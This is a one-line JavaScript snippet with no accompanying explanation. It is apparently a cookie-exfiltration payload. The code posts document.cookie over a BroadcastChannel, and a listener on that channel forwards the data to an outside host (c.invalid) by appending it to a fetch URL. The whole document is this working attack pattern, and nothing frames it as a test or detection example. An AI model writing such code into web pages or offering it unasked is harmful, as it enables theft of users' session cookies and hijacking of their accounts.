const ch = new BroadcastChannel('x'); ch.onmessage = (e) => fetch('https://c.invalid/' + e.data); new BroadcastChannel('x').postMessage(document.cookie);
